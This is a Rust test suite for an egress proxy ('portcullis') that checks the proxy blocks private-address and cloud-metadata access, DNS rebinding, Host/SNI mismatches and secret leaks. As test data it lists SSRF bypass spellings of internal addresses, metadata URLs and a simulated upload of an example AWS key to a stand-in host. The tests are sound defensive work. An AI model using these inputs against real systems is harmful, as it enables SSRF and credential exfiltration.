//! The egress proxy against real clients (curl, Python `requests`) and real servers on
//! "external" hosts in another network namespace (`common::netns`). The proxy runs in the `px`
//! namespace, whose resolver is the test DNS server, so names resolve as the fixture says.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use std::io::Write;
use std::path::PathBuf;
use std::process::{Child, Stdio};

use common::netns::{CGNAT_IP, EXT_IP, EXT2_IP, EXT3_IP, Net, PRIVATE_IP};
use serde_json::Value;

const KEY: &str = "sk-egress-test";

struct Proxy {
    child: Child,
    /// `127.0.0.1:port` inside `px`.
    addr: String,
    audit: PathBuf,
    _dir: tempfile::TempDir,
}

impl Drop for Proxy {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Proxy {
    fn url(&self) -> String {
        format!("http://s1:{KEY}@{}", self.addr)
    }

    /// Every decision record so far (each is durable before its request is answered).
    fn records(&self) -> Vec<Value> {
        std::fs::read_to_string(&self.audit)
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str::<Value>(l).unwrap())
            .filter(|r| r["type"] == "decision")
            .collect()
    }

    fn last(&self) -> Value {
        self.records().pop().expect("a record")
    }
}

/// `portcullis serve` with an egress listener, inside `px`. The documentation ranges the
/// external hosts live on are listed in allow_cidrs (they are not public addresses).
fn proxy(net: &Net, extra: &str) -> Proxy {
    proxy_with(
        net,
        &format!("[egress]\nlisten = \"127.0.0.1:0\"\nsniff_timeout_ms = 300\n{extra}"),
    )
}

/// As [`proxy`], with the whole `[egress]` table (and anything after it) given.
fn proxy_with(net: &Net, egress: &str) -> Proxy {
    let dir = tempfile::tempdir().unwrap();
    let audit = dir.path().join("audit.jsonl");
    let digest = sha256_hex(KEY);
    let toml = format!(
        r#"
[server]
listen = "127.0.0.1:0"
admin_listen = "127.0.0.1:0"
[audit]
path = "{audit}"
[network]
allow_cidrs = ["203.0.113.0/24", "2001:db8::/32"]
[[agents]]
id = "bot"
api_key_sha256 = ["{digest}"]
{egress}
[egress.hosts]
"static.test" = ["{EXT2_IP}"]
"#,
        audit = audit.display()
    );
    let cfg = dir.path().join("portcullis.toml");
    std::fs::write(&cfg, toml).unwrap();
    let mut child = net
        .px(env!("CARGO_BIN_EXE_portcullis"))
        .args(["serve", "--config"])
        .arg(&cfg)
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .unwrap();
    let lines = common::lines_of(child.stdout.take().unwrap());
    let line = common::wait_line(&lines, "egress listening on");
    let addr = line.rsplit("http://").next().unwrap().trim().to_string();
    Proxy {
        child,
        addr,
        audit,
        _dir: dir,
    }
}

fn sha256_hex(s: &str) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(s.as_bytes()))
}

/// Real curl through the proxy: (status, body).
fn curl(net: &Net, p: &Proxy, args: &[&str]) -> (u16, String) {
    let out = net
        .px("curl")
        .args([
            "-sS",
            "--max-time",
            "20",
            "-x",
            &p.url(),
            "-w",
            "\n%{http_code}",
        ])
        .args(args)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let (body, code) = text.rsplit_once('\n').unwrap_or(("", &text));
    (code.trim().parse().unwrap_or(0), body.to_string())
}

/// Raw bytes to the proxy from inside `px`; what came back before the proxy closed.
fn raw(net: &Net, p: &Proxy, request: &[u8], half_close: bool) -> String {
    let script = r#"
import socket, sys
host, port = sys.argv[1].rsplit(":", 1)
s = socket.create_connection((host, int(port)))
s.settimeout(20)
s.sendall(sys.stdin.buffer.read())
if sys.argv[2] == "1":
    s.shutdown(socket.SHUT_WR)
out = b""
try:
    while True:
        b = s.recv(65536)
        if not b:
            break
        out += b
except (socket.timeout, ConnectionResetError):
    pass
sys.stdout.buffer.write(out)
"#;
    let mut child = net
        .px(common::python())
        .args(["-c", script, &p.addr, if half_close { "1" } else { "0" }])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(request).unwrap();
    let out = child.wait_with_output().unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn rule(record: &Value) -> String {
    record["decision"]["reasons"][0]["rule"]
        .as_str()
        .unwrap_or("")
        .to_string()
}

#[test]
fn plain_http_and_tls_tunnels_reach_the_checked_address() {
    let net = Net::new();
    let p = proxy(&net, "");
    let (code, body) = curl(&net, &p, &["http://ext.test/hello?x=1"]);
    assert_eq!(code, 200, "{body}");
    let seen: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(seen["server"], format!("{EXT_IP}:80"));
    assert_eq!(seen["host"], "ext.test");
    assert_eq!(seen["path"], "/hello?x=1");
    assert!(
        seen["headers"].get("proxy-authorization").is_none(),
        "{seen}"
    );
    let r = p.last();
    assert_eq!(r["decision"]["outcome"], "allow");
    assert_eq!(r["action"]["via"], "egress");
    assert_eq!(r["action"]["http"]["method"], "GET");
    assert_eq!(r["action"]["http"]["path"], "/hello?x=1");
    assert_eq!(r["action"]["http"]["ips"], serde_json::json!([EXT_IP]));
    assert_eq!(r["action"]["session"]["id"], "s1");

    // HTTPS through CONNECT, verified end to end against the fixture's CA.
    let ca = net.ca_pem_path();
    let (code, body) = curl(
        &net,
        &p,
        &["--cacert", ca.to_str().unwrap(), "https://ext.test/secure"],
    );
    assert_eq!(code, 200, "{body}");
    let seen: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(seen["server"], format!("{EXT_IP}:443"));
    let r = p.last();
    assert_eq!(r["action"]["http"]["method"], "CONNECT");
    assert_eq!(r["action"]["http"]["port"], 443);
    assert_eq!(r["decision"]["outcome"], "allow");

    // The static override answers without the resolver.
    let (code, body) = curl(&net, &p, &["http://static.test/"]);
    assert_eq!(code, 200, "{body}");
    assert!(body.contains(&format!("{EXT2_IP}:80")), "{body}");
    assert_eq!(net.dns_queries("static.test"), 0);

    // Plain HTTP inside a tunnel: each request decided, with its path.
    let (code, body) = curl(&net, &p, &["-p", "http://ext.test:8080/in-tunnel"]);
    assert_eq!(code, 200, "{body}");
    assert!(body.contains(&format!("{EXT_IP}:8080")), "{body}");
    let recs = p.records();
    let inner = recs.last().unwrap();
    assert_eq!(inner["action"]["http"]["path"], "/in-tunnel");
    assert_eq!(inner["action"]["http"]["method"], "GET");
    let outer = &recs[recs.len() - 2];
    assert_eq!(outer["action"]["http"]["method"], "CONNECT");
}

#[test]
fn every_spelling_of_a_denied_address_is_denied_before_connecting() {
    let net = Net::new();
    let p = proxy(&net, "");
    let cases: &[(&str, &str)] = &[
        // 10.99.0.10, a private address that is reachable from px.
        ("http://10.99.0.10/", "network.private_address"),
        ("http://174260234/", "network.private_address"),
        ("http://0x0a.0x63.0.0x0a/", "network.private_address"),
        ("http://012.0143.0.012/", "network.private_address"),
        ("http://10.99.10/", "network.private_address"),
        ("http://[::ffff:10.99.0.10]/", "network.private_address"),
        ("http://[::ffff:a63:a]/", "network.private_address"),
        ("http://[64:ff9b::a63:a]/", "network.private_address"),
        ("http://private.test/", "network.private_address"),
        // A name whose answer mixes a public and a private address: the whole answer is denied.
        ("http://mixed.test/", "network.private_address"),
        // Carrier-grade NAT.
        ("http://100.64.0.10/", "network.private_address"),
        // Cloud metadata, by address in any spelling and by a name that resolves there.
        (
            "http://169.254.169.254/latest/meta-data/",
            "network.metadata",
        ),
        ("http://2852039166/", "network.metadata"),
        ("http://[::ffff:169.254.169.254]/", "network.metadata"),
        ("http://meta.test/", "network.metadata"),
        ("http://metadata.google.internal/", "network.metadata"),
    ];
    for (url, want) in cases {
        let (code, body) = curl(&net, &p, &[url]);
        assert_eq!(code, 403, "{url}: {body}");
        let r = p.last();
        assert_eq!(r["decision"]["outcome"], "deny", "{url}");
        let rules: Vec<&str> = r["decision"]["reasons"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|x| x["rule"].as_str())
            .collect();
        assert!(rules.contains(want), "{url}: {rules:?}");
    }
    assert_eq!(net.hits(&format!("{PRIVATE_IP}:80")), 0);
    assert_eq!(net.hits(&format!("{CGNAT_IP}:80")), 0);
    assert_eq!(net.hits(&format!("{EXT_IP}:80")), 0, "mixed.test connected");
    // Raw request lines, past curl's own URL parser.
    for target in [
        "0x7f.1",
        "0177.0.0.1",
        "127.1",
        "2130706433",
        "[::ffff:7f00:1]",
        "[::127.0.0.1]",
    ] {
        let out = raw(
            &net,
            &p,
            format!("GET http://{target}/ HTTP/1.1\r\nHost: {target}\r\nProxy-Authorization: Bearer {KEY}\r\nConnection: close\r\n\r\n").as_bytes(),
            false,
        );
        assert!(out.starts_with("HTTP/1.1 403"), "{target}: {out}");
        let r = p.last();
        assert_eq!(r["action"]["http"]["ip_class"], "loopback", "{target}");
    }
}

#[test]
fn a_resolver_that_changes_its_answer_cannot_rebind_a_checked_name() {
    let net = Net::new();
    let internal = net.px_http_server(80);
    let p = proxy(&net, "");
    // rebind.test answers 203.0.113.10, then 127.0.0.1, alternately.
    let mut allowed = 0;
    for _ in 0..4 {
        let (code, body) = curl(&net, &p, &["http://rebind.test/"]);
        let r = p.last();
        let ips = r["action"]["http"]["ips"].clone();
        if code == 200 {
            allowed += 1;
            assert_eq!(ips, serde_json::json!([EXT_IP]));
            assert!(body.contains(&format!("{EXT_IP}:80")), "{body}");
        } else {
            assert_eq!(code, 403, "{body}");
            assert_eq!(ips, serde_json::json!(["127.0.0.1"]));
            assert_eq!(rule(&r), "network.private_address");
        }
    }
    assert_eq!(allowed, 2);
    // One lookup per request (A; AAAA may go with it), and never a connection inside.
    assert_eq!(net.dns_queries_of("rebind.test", "A"), 4);
    assert_eq!(net.hits(&internal.to_string()), 0);
}

#[test]
fn host_mismatch_self_connection_and_redirects_are_decided() {
    let net = Net::new();
    let p = proxy(&net, "");
    // Absolute-form with a Host that names another server.
    let (code, body) = curl(&net, &p, &["-H", "Host: www.ext.test", "http://ext.test/"]);
    assert_eq!(code, 403, "{body}");
    assert_eq!(rule(&p.last()), "egress.host_mismatch");
    // Inside a plain-HTTP tunnel, too.
    let (code, body) = curl(
        &net,
        &p,
        &["-p", "-H", "Host: www.ext.test", "http://ext.test/"],
    );
    assert_eq!(code, 403, "{body}");
    assert_eq!(rule(&p.last()), "egress.host_mismatch");
    // A TLS hello for another name than the CONNECT target.
    let ca = net.ca_pem_path();
    let (code, _) = curl(
        &net,
        &p,
        &[
            "--cacert",
            ca.to_str().unwrap(),
            "--connect-to",
            "www.ext.test:443:ext.test:443",
            "https://www.ext.test/",
        ],
    );
    assert_ne!(code, 200);
    assert_eq!(rule(&p.last()), "egress.sni_mismatch");
    // A CONNECT to an address with a hello for a name: the name was never decided.
    let (code, _) = curl(
        &net,
        &p,
        &[
            "--cacert",
            ca.to_str().unwrap(),
            "--connect-to",
            &format!("www.ext.test:443:{EXT_IP}:443"),
            "https://www.ext.test/",
        ],
    );
    assert_ne!(code, 200);
    assert_eq!(rule(&p.last()), "egress.sni_mismatch");
    // The proxy itself, by every local name.
    let port = p.addr.rsplit(':').next().unwrap();
    for url in [
        format!("http://127.0.0.1:{port}/"),
        format!("http://0.0.0.0:{port}/"),
        format!("http://[::ffff:127.0.0.1]:{port}/"),
    ] {
        let (code, body) = curl(&net, &p, &[&url]);
        assert_eq!(code, 403, "{url}: {body}");
        assert_eq!(rule(&p.last()), "egress.self_connection", "{url}");
    }
    let (code, _) = curl(&net, &p, &["-p", &format!("http://127.0.0.1:{port}/")]);
    assert_ne!(code, 200);
    assert_eq!(rule(&p.last()), "egress.self_connection");
    // A redirect is a new request, decided again.
    let before = p.records().len();
    let (code, body) = curl(
        &net,
        &p,
        &[
            "-L",
            "http://ext.test/redirect?to=http%3A%2F%2F169.254.169.254%2Flatest",
        ],
    );
    assert_eq!(code, 403, "{body}");
    let recs = p.records();
    assert_eq!(recs.len(), before + 2);
    assert_eq!(recs[before]["decision"]["outcome"], "allow");
    assert_eq!(rule(&recs[before + 1]), "network.metadata");
}

#[test]
fn non_http_schemes_and_protocols_are_refused() {
    let net = Net::new();
    let p = proxy(&net, "");
    let (code, body) = curl(&net, &p, &["ftp://ext.test/file"]);
    assert_eq!(code, 403, "{body}");
    assert_eq!(rule(&p.last()), "network.scheme");
    // A client-first protocol that is neither TLS nor HTTP: refused and recorded.
    let connect = format!(
        "CONNECT ext.test:22 HTTP/1.1\r\nHost: ext.test:22\r\nProxy-Authorization: Bearer {KEY}\r\n\r\n"
    );
    let out = raw(
        &net,
        &p,
        format!("{connect}SSH-2.0-client\r\n").as_bytes(),
        false,
    );
    assert!(out.starts_with("HTTP/1.1 200"), "{out}");
    assert!(!out.contains("SSH-2.0-fixture"), "{out}");
    assert_eq!(rule(&p.last()), "egress.tunnel_protocol");
    // A server-first protocol: the client waits for a banner that never comes.
    let out = raw(&net, &p, connect.as_bytes(), false);
    assert!(out.starts_with("HTTP/1.1 200"), "{out}");
    assert!(!out.contains("SSH-2.0-fixture"), "{out}");
}

#[test]
fn python_requests_through_the_proxy_and_secrets_in_bodies() {
    let net = Net::new();
    let p = proxy(&net, "");
    let script = r#"
import json, sys, requests
proxy, ca, secret = sys.argv[1], sys.argv[2], sys.argv[3]
proxies = {"http": proxy, "https": proxy}
out = {}
r = requests.get("http://ext.test/py", proxies=proxies, timeout=20)
out["http"] = [r.status_code, r.json()["server"]]
r = requests.get("https://www.ext.test/py", proxies=proxies, verify=ca, timeout=20)
out["https"] = [r.status_code, r.json()["server"]]
r = requests.post("http://198.51.100.10/upload", data="key=" + secret, proxies=proxies, timeout=20)
out["secret"] = [r.status_code, r.json()["error"]["code"]]
print(json.dumps(out))
"#;
    let secret = "AKIAIOSFODNN7EXAMPLE";
    let out = net
        .px(common::python())
        .args([
            "-c",
            script,
            &p.url(),
            net.ca_pem_path().to_str().unwrap(),
            secret,
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["http"], serde_json::json!([200, format!("{EXT_IP}:80")]));
    assert_eq!(
        v["https"],
        serde_json::json!([200, format!("{EXT_IP}:443")])
    );
    assert_eq!(v["secret"][0], 403);
    let r = p.last();
    let rules: Vec<&str> = r["decision"]["reasons"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|x| x["rule"].as_str())
        .collect();
    assert!(rules.contains(&"flow.secret_egress"), "{rules:?}");
    let findings = &r["action"]["content"]["findings"];
    assert_eq!(findings[0]["where"], "http.body", "{findings}");
    assert_eq!(net.hits(&format!("{EXT3_IP}:80")), 0);
    // Findings, never values.
    let audit = std::fs::read_to_string(&p.audit).unwrap();
    assert!(!audit.contains(secret));
    assert!(!audit.contains(KEY));
}

#[test]
fn bad_input_gets_4xx_or_a_close_and_the_proxy_stays_healthy() {
    let net = Net::new();
    let p = proxy(&net, "");
    // No credentials, wrong credentials.
    let out = raw(
        &net,
        &p,
        b"GET http://ext.test/ HTTP/1.1\r\nHost: ext.test\r\nConnection: close\r\n\r\n",
        false,
    );
    assert!(out.starts_with("HTTP/1.1 407"), "{out}");
    assert!(
        out.to_ascii_lowercase()
            .contains("proxy-authenticate: basic"),
        "{out}"
    );
    let out = raw(
        &net,
        &p,
        b"GET http://ext.test/ HTTP/1.1\r\nHost: ext.test\r\nProxy-Authorization: Bearer nope\r\nConnection: close\r\n\r\n",
        false,
    );
    assert!(out.starts_with("HTTP/1.1 407"), "{out}");
    // Malformed request lines.
    for bad in [
        &b"GARBAGE\r\n\r\n"[..],
        b"GET http://ext.test/ HTTP/9.9\r\n\r\n",
        b"GET  http://ext.test/ HTTP/1.1\r\n\r\n",
        b"\x16\x03\x01\x00\x05hello",
    ] {
        let out = raw(&net, &p, bad, false);
        assert!(
            out.is_empty() || out.starts_with("HTTP/1.1 4"),
            "{bad:?}: {out}"
        );
    }
    // An origin-form request is not a proxy request.
    let out = raw(
        &net,
        &p,
        format!("GET / HTTP/1.1\r\nHost: x\r\nProxy-Authorization: Bearer {KEY}\r\nConnection: close\r\n\r\n").as_bytes(),
        false,
    );
    assert!(out.starts_with("HTTP/1.1 400"), "{out}");
    // CONNECT without a port; to an invalid host.
    for target in ["ext.test", "ex@mple.test:80", "[fe80::1%25eth0]:80"] {
        let out = raw(
            &net,
            &p,
            format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\nProxy-Authorization: Bearer {KEY}\r\nConnection: close\r\n\r\n").as_bytes(),
            false,
        );
        assert!(out.starts_with("HTTP/1.1 4"), "{target}: {out}");
    }
    // User information in a proxied URL may be a password: refused, never recorded.
    let out = raw(
        &net,
        &p,
        format!("GET http://user:hunter2pass@ext.test/ HTTP/1.1\r\nHost: ext.test\r\nProxy-Authorization: Bearer {KEY}\r\nConnection: close\r\n\r\n").as_bytes(),
        false,
    );
    assert!(out.starts_with("HTTP/1.1 400"), "{out}");
    assert_eq!(rule(&p.last()), "egress.invalid_target");
    assert!(
        !std::fs::read_to_string(&p.audit)
            .unwrap()
            .contains("hunter2pass")
    );
    // …and in a CONNECT target.
    let out = raw(
        &net,
        &p,
        format!("CONNECT user:hunter3pass@ext.test:443 HTTP/1.1\r\nHost: ext.test:443\r\nProxy-Authorization: Bearer {KEY}\r\nConnection: close\r\n\r\n").as_bytes(),
        false,
    );
    assert!(out.starts_with("HTTP/1.1 400"), "{out}");
    assert!(
        !std::fs::read_to_string(&p.audit)
            .unwrap()
            .contains("hunter3pass")
    );
    // Huge headers.
    let big = format!(
        "GET http://ext.test/ HTTP/1.1\r\nHost: ext.test\r\nConnection: close\r\nX-Big: {}\r\n\r\n",
        "a".repeat(200_000)
    );
    let out = raw(&net, &p, big.as_bytes(), false);
    assert!(
        out.is_empty() || out.starts_with("HTTP/1.1 431") || out.starts_with("HTTP/1.1 4"),
        "{}",
        &out[..out.len().min(200)]
    );
    // Half-closed in the middle of a head, and in the middle of a body.
    let out = raw(
        &net,
        &p,
        b"GET http://ext.test/ HTTP/1.1\r\nHost: ext",
        true,
    );
    assert!(out.is_empty() || out.starts_with("HTTP/1.1 4"), "{out}");
    let out = raw(
        &net,
        &p,
        format!("POST http://ext.test/ HTTP/1.1\r\nHost: ext.test\r\nContent-Length: 100\r\nProxy-Authorization: Bearer {KEY}\r\n\r\nshort").as_bytes(),
        true,
    );
    assert!(!out.starts_with("HTTP/1.1 200"), "{out}");
    assert_eq!(net.hits(&format!("{EXT_IP}:80")), 0);
    // Still healthy.
    let (code, body) = curl(&net, &p, &["http://ext.test/after"]);
    assert_eq!(code, 200, "{body}");
}

#[test]
fn interception_shows_requests_inside_tls_to_the_policy() {
    let net = Net::new();
    let certs = tempfile::tempdir().unwrap();
    let init = std::process::Command::new(env!("CARGO_BIN_EXE_portcullis"))
        .args(["certs", "init", "--dir"])
        .arg(certs.path())
        .output()
        .unwrap();
    assert!(
        init.status.success(),
        "{}",
        String::from_utf8_lossy(&init.stderr)
    );
    let ca = certs.path().join("ca.crt");
    let extra = format!(
        "[egress]\nlisten = \"127.0.0.1:0\"\nsniff_timeout_ms = 300\nintercept = [\"*.ext.test\"]\nca_cert = \"{}\"\nca_key = \"{}\"\nupstream_ca_file = \"{}\"\n",
        ca.display(),
        certs.path().join("ca.key").display(),
        net.ca_pem_path().display()
    );
    let p = proxy_with(&net, &extra);
    // The client trusts only portcullis's CA for the intercepted name.
    let (code, body) = curl(
        &net,
        &p,
        &[
            "--cacert",
            ca.to_str().unwrap(),
            "-H",
            "X-Api-Key: AKIAIOSFODNN7EXAMPLE",
            "--data",
            "key=AKIAI44QH8DHBEXAMPLE",
            "https://www.ext.test/inside?q=1",
        ],
    );
    assert_eq!(code, 200, "{body}");
    let seen: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(seen["server"], format!("{EXT_IP}:443"));
    assert_eq!(seen["sni"], "www.ext.test");
    assert_eq!(seen["path"], "/inside?q=1");
    let recs = p.records();
    let inner = recs.last().unwrap();
    assert_eq!(inner["action"]["http"]["scheme"], "https");
    assert_eq!(inner["action"]["http"]["method"], "POST");
    assert_eq!(inner["action"]["http"]["path"], "/inside?q=1");
    let wheres: Vec<&str> = inner["action"]["content"]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|f| f["where"].as_str())
        .collect();
    assert!(wheres.contains(&"http.body"), "{wheres:?}");
    assert!(wheres.contains(&"http.headers.x-api-key"), "{wheres:?}");
    let audit = std::fs::read_to_string(&p.audit).unwrap();
    assert!(!audit.contains("AKIAIOSFODNN7EXAMPLE") && !audit.contains("AKIAI44QH8DHBEXAMPLE"));
    assert_eq!(recs[recs.len() - 2]["action"]["http"]["method"], "CONNECT");
    // Inside the TLS, a Host for another server is denied like in plain HTTP.
    let (code, _) = curl(
        &net,
        &p,
        &[
            "--cacert",
            ca.to_str().unwrap(),
            "-H",
            "Host: ext.test",
            "https://www.ext.test/",
        ],
    );
    assert_eq!(code, 403);
    assert_eq!(rule(&p.last()), "egress.host_mismatch");
    // A host that is not listed is passed through: its own certificate, not portcullis's.
    let fixture_ca = net.ca_pem_path();
    let (code, _) = curl(
        &net,
        &p,
        &[
            "--cacert",
            fixture_ca.to_str().unwrap(),
            "https://ext.test/",
        ],
    );
    assert_eq!(code, 200);
    let (code, _) = curl(
        &net,
        &p,
        &["--cacert", ca.to_str().unwrap(), "https://ext.test/"],
    );
    assert_ne!(code, 200);

    // An upstream whose certificate does not verify is refused, never opened up.
    let untrusting = format!(
        "[egress]\nlisten = \"127.0.0.1:0\"\nintercept = [\"www.ext.test\"]\nca_cert = \"{}\"\nca_key = \"{}\"\nupstream_ca_file = \"{}\"\n",
        ca.display(),
        certs.path().join("ca.key").display(),
        ca.display()
    );
    let p = proxy_with(&net, &untrusting);
    let (code, _) = curl(
        &net,
        &p,
        &["--cacert", ca.to_str().unwrap(), "https://www.ext.test/"],
    );
    assert_ne!(code, 200);
    assert_eq!(rule(&p.last()), "egress.upstream_certificate");
}

#[test]
fn an_idle_tunnel_is_closed() {
    let net = Net::new();
    let p = proxy(&net, "idle_timeout_ms = 400\n");
    // A real ClientHello (Python's ssl, no server name), through a tunnel to the echo server.
    let script = r#"
import socket, ssl, sys
host, port = sys.argv[1].rsplit(":", 1)
s = socket.create_connection((host, int(port)))
s.settimeout(30)
s.sendall(("CONNECT 203.0.113.10:22 HTTP/1.1\r\nHost: 203.0.113.10:22\r\nProxy-Authorization: Bearer %s\r\n\r\n" % sys.argv[2]).encode())
head = b""
while b"\r\n\r\n" not in head:
    head += s.recv(1)
assert head.startswith(b"HTTP/1.1 200"), head
out = ssl.MemoryBIO()
tls = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), out)
try:
    tls.do_handshake()
except ssl.SSLWantReadError:
    pass
s.sendall(out.read())
got = b""
try:
    while True:
        b = s.recv(65536)
        if not b:
            print("closed", len(got))
            break
        got += b
except socket.timeout:
    print("timeout", len(got))
"#;
    let out = net
        .px(common::python())
        .args(["-c", script, &p.addr, KEY])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // The banner and the echoed hello came through, then the proxy closed the silent tunnel.
    assert!(text.starts_with("closed "), "{text}");
    let n: usize = text.trim().rsplit(' ').next().unwrap().parse().unwrap();
    assert!(n > "SSH-2.0-fixture\r\n".len(), "{text}");
    assert_eq!(p.last()["decision"]["outcome"], "allow");
}
